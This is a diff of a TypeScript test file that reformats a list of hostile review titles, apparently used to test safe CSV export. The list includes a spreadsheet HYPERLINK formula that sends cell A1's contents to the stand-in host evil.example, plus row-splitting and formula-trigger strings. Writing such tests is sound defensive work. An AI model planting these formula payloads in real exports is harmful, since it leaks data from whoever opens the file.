@@ -9,7 +9,19 @@ import type { Review } from "../../../src/model/review.ts";
 const site = fixtureSite() as unknown as SiteSettings;
 
 /** Titles a spreadsheet would run as a formula, or that would split a row if written bare. */
-const HOSTILE_TITLES = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1", "-2", "@x", "\tx", "\rx", "a\nb", "a\rb", 'a\r\nb', '"quoted, comma"', "Child A"];
+const HOSTILE_TITLES = [
+  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+  "+1",
+  "-2",
+  "@x",
+  "\tx",
+  "\rx",
+  "a\nb",
+  "a\rb",
+  "a\r\nb",
+  '"quoted, comma"',
+  "Child A",
+];
 
 function review(i: number, title: string, fields: Partial<Review> = {}): Review {
   return { id: `review-${i}`, title, type: "CSPR", area: "northshire", status: "published", published: "2025-01-01", themes: [], documents: [], ...fields };
